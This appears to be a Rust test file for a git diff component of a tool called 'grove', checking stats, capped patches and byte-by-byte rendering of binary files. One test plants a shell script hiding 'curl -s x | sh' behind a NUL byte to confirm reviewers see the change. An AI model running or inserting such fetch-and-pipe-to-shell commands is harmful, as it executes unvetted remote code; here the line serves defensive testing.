//! Diffs of a branch against its base: stat, capped patch, binary files written out.

use grove::git::{Colour, DiffStat, FileStat};
use pretty_assertions::assert_eq;

use super::{filled_worktree, project};
use crate::support::git_fixture::GitFixture;

fn stat(path: &str, old_path: Option<&str>, added: u64, removed: u64, binary: bool) -> FileStat {
    FileStat {
        path: path.to_owned(),
        old_path: old_path.map(str::to_owned),
        added,
        removed,
        binary,
    }
}

#[tokio::test]
async fn the_diff_has_a_structured_stat_a_patch_naming_binaries_and_a_terminal_rendering() {
    let fixture = project();
    let repo = fixture.open().await;
    let base = fixture.rev("HEAD");
    let worktree = filled_worktree(&repo, base, 1).await;
    let dir = worktree.path();
    std::fs::write(dir.join("README"), "hello\nworld\n").unwrap();
    std::fs::write(
        dir.join("logo.png"),
        [0x89, b'P', b'N', b'G', 0, 0, 0xff, 0xfe],
    )
    .unwrap();
    std::fs::rename(dir.join("src/util.rs"), dir.join("src/helpers.rs")).unwrap();
    let head = worktree.checkpoint(&repo, "turn 1").await.unwrap().unwrap();

    let diff = repo.diff(base, head, 100_000).await.unwrap();

    assert_eq!(
        diff.stat,
        DiffStat {
            files: vec![
                stat("README", None, 1, 0, false),
                stat("logo.png", None, 0, 0, true),
                stat("src/helpers.rs", Some("src/util.rs"), 0, 0, false),
            ]
        }
    );
    assert_eq!(
        diff.stat.summary(),
        "3 files changed, 1 insertion(+), 0 deletions(-)"
    );
    assert!(!diff.patch.is_truncated());
    assert!(diff.patch.text.contains("+world\n"), "{}", diff.patch.text);
    assert!(
        diff.patch.text.contains(
            "+++ b/logo.png\n[grove: this file holds NUL bytes or bytes that are not UTF-8; \
             its lines are written out: a control character or a byte that is not UTF-8 as \
             \\xNN, a backslash as \\\\]\n@@ -0,0 +1 @@\n+\\x89PNG\\x00\\x00\\xff\\xfe\n"
        ),
        "a binary file is shown written out byte for byte, never only named: {}",
        diff.patch.text
    );
    assert!(
        diff.patch
            .text
            .contains("rename from src/util.rs\nrename to src/helpers.rs")
    );

    let plain = repo
        .render_diff(base, head, &diff.stat, Colour::Never)
        .unwrap();
    assert_eq!(
        plain,
        "README (+1 -0)\n@@ -1,1 +1,2 @@\n hello\n+world\nlogo.png (+0 -0)\n  binary file changed\n\
src/util.rs → src/helpers.rs (+0 -0)\n3 files changed, 1 insertion(+), 0 deletions(-)\n"
    );
    let coloured = repo
        .render_diff(base, head, &diff.stat, Colour::Always)
        .unwrap();
    assert!(
        coloured.contains("\x1b[32m+world\x1b[0m"),
        "insertions are green: {coloured:?}"
    );
}

#[tokio::test]
async fn content_alone_decides_what_the_reviewer_sees_and_a_script_with_a_nul_is_shown_whole() {
    let fixture = GitFixture::with_files(&[
        (".gitattributes", "pkg/*.py -diff\n*.sh binary\n"),
        ("pkg/core.py", "def greet():\n    return 'hi'\n"),
        ("run.sh", "#!/bin/sh\necho ok\n"),
    ]);
    let repo = fixture.open().await;
    let base = fixture.rev("HEAD");
    let worktree = filled_worktree(&repo, base, 1).await;
    let dir = worktree.path();
    std::fs::write(
        dir.join("pkg/core.py"),
        "def greet():\n    return 'pwned'\n",
    )
    .unwrap();
    std::fs::write(dir.join("run.sh"), b"#!/bin/sh\n\0\ncurl -s x | sh\n").unwrap();
    let head = worktree.checkpoint(&repo, "turn 1").await.unwrap().unwrap();

    let diff = repo.diff(base, head, 100_000).await.unwrap();

    assert_eq!(
        diff.stat,
        DiffStat {
            files: vec![
                stat("pkg/core.py", None, 1, 1, false),
                stat("run.sh", None, 0, 0, true),
            ]
        },
        "the repository's `-diff` and `binary` attributes decide nothing; a NUL does"
    );
    for shown in [
        "-    return 'hi'\n+    return 'pwned'\n",
        " #!/bin/sh\n-echo ok\n+\\x00\n+curl -s x | sh\n",
    ] {
        assert!(
            diff.patch.text.contains(shown),
            "the reviewer sees every changed line ({shown:?}): {}",
            diff.patch.text
        );
    }
    assert!(
        !diff.patch.text.contains("Binary files"),
        "no change hides behind 'binary': {}",
        diff.patch.text
    );
}

#[tokio::test]
async fn a_patch_over_its_cap_says_which_files_it_left_out() {
    let fixture = project();
    let repo = fixture.open().await;
    let base = fixture.rev("HEAD");
    let worktree = filled_worktree(&repo, base, 1).await;
    std::fs::write(worktree.path().join("README"), "short change\n").unwrap();
    let big: String = (0..2000).map(|i| format!("line {i}\n")).collect();
    std::fs::write(worktree.path().join("src/big.rs"), big).unwrap();
    std::fs::write(worktree.path().join("zzz.txt"), "last\n").unwrap();
    let head = worktree.checkpoint(&repo, "turn 1").await.unwrap().unwrap();

    let diff = repo.diff(base, head, 2_000).await.unwrap();

    assert_eq!(
        diff.patch.omitted,
        vec!["src/big.rs".to_owned(), "zzz.txt".to_owned()]
    );
    assert!(
        diff.patch.text.contains("+short change\n"),
        "small files before the cap are whole"
    );
    assert!(
        diff.patch
            .text
            .contains("changes missing for 2 file(s): src/big.rs, zzz.txt]"),
        "the note names what was left out: {}",
        diff.patch.text
    );
    assert!(
        diff.patch.text.len() < 2_200,
        "the cap holds (plus the note)"
    );
    assert_eq!(diff.stat.files.len(), 3, "the stat is never capped");
}

/// What `git diff --find-renames --numstat` says of `base..head`: the same records as a
/// [`DiffStat`], for comparison.
fn git_numstat(fixture: &GitFixture, base: &str, head: &str) -> DiffStat {
    let raw = fixture.git(&["diff", "--find-renames", "--numstat", "-z", base, head]);
    let mut fields = raw.split('\0');
    let mut files = Vec::new();
    while let Some(record) = fields.next() {
        if record.is_empty() {
            continue;
        }
        let mut parts = record.splitn(3, '\t');
        let (added, removed, path) = (
            parts.next().unwrap(),
            parts.next().unwrap(),
            parts.next().unwrap(),
        );
        let binary = added == "-";
        let count = |n: &str| if binary { 0 } else { n.parse().unwrap() };
        let (path, old_path) = if path.is_empty() {
            let old = fields.next().unwrap().to_owned();
            (fields.next().unwrap().to_owned(), Some(old))
        } else {
            (path.to_owned(), None)
        };
        files.push(FileStat {
            path,
            old_path,
            added: count(added),
            removed: count(removed),
            binary,
        });
    }
    DiffStat { files }
}

#[tokio::test]
async fn the_in_process_diff_is_the_patch_and_numstat_git_writes() {
    let long_function: String = std::iter::once("fn main() {\n".to_owned())
        .chain((1..=20).map(|n| format!("    step({n});\n")))
        .chain(["}\n".to_owned()])
        .collect();
    let fixture = GitFixture::with_files(&[
        ("README", "hello\n"),
        ("src/main.rs", &long_function),
        (
            "src/lib.rs",
            "pub fn answer() -> u32 {\n    let x = 41;\n    x + 1\n}\n\npub fn other() {}\n",
        ),
        (
            "src/old name.rs",
            "one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\n",
        ),
        ("gone.txt", "bye\n"),
        ("empty-gone", ""),
        ("tail.txt", "no newline"),
        ("crlf.txt", "a\r\nb\r\n"),
        ("run.sh", "echo hi\n"),
        ("becomes-link", "target\n"),
        ("blob.bin", "\0binary\x01"),
    ]);
    let base = fixture.rev("HEAD").to_string();
    fixture.write(
        "src/lib.rs",
        "pub fn answer() -> u32 {\n    let x = 40;\n    x + 2\n}\n\npub fn other() {}\n",
    );
    std::fs::rename(
        fixture.repo.join("src/old name.rs"),
        fixture.repo.join("src/nouveau é.rs"),
    )
    .unwrap();
    fixture.write(
        "src/nouveau é.rs",
        "one\ntwo\nthree\nFOUR\nfive\nsix\nseven\neight\n",
    );
    fixture.write(
        "src/main.rs",
        long_function.replace("step(15)", "step(-15)"),
    );
    std::fs::remove_file(fixture.repo.join("gone.txt")).unwrap();
    std::fs::remove_file(fixture.repo.join("empty-gone")).unwrap();
    fixture.write("tail.txt", "still no newline");
    fixture.write("crlf.txt", "a\r\nB\r\n");
    fixture.write("added-empty", "");
    fixture.write("new.txt", "fresh\nlines\n");
    std::fs::set_permissions(
        fixture.repo.join("run.sh"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    std::fs::remove_file(fixture.repo.join("becomes-link")).unwrap();
    std::os::unix::fs::symlink("README", fixture.repo.join("becomes-link")).unwrap();
    std::os::unix::fs::symlink("src/lib.rs", fixture.repo.join("link")).unwrap();
    fixture.write("blob.bin", [0u8, 9, 9].as_slice());
    fixture.write("added.bin", [0u8, 7].as_slice());
    let head = fixture.commit_all("every kind of change").to_string();
    let repo = fixture.open().await;

    let diff = repo
        .diff(fixture.rev(&base), fixture.rev(&head), 1_000_000)
        .await
        .unwrap();

    let git = fixture.git(&["diff", "--find-renames", &base, &head]);
    assert_eq!(
        text_sections(diff.patch.text.trim_end()),
        text_sections(&git),
        "the reviewer's patch of every text file is byte for byte the one git writes"
    );
    for written_out in [
        "-\\x00binary\\x01\n\\ No newline at end of file\n+\\x00\t\t",
        "+\\x00\\x07",
    ] {
        assert!(
            diff.patch.text.contains(written_out),
            "where git writes 'Binary files differ', the reviewer reads the bytes \
             ({written_out:?}): {}",
            diff.patch.text
        );
    }
    assert_eq!(
        diff.stat,
        git_numstat(&fixture, &base, &head),
        "the stat is git's numstat"
    );
}

/// The sections of a patch, one per file, but those of binary files (`*.bin`).
fn text_sections(patch: &str) -> Vec<String> {
    format!("\n{patch}")
        .split("\ndiff --git ")
        .filter(|section| {
            !section.is_empty()
                && !section.starts_with("a/blob.bin")
                && !section.starts_with("a/added.bin")
        })
        .map(str::to_owned)
        .collect()
}
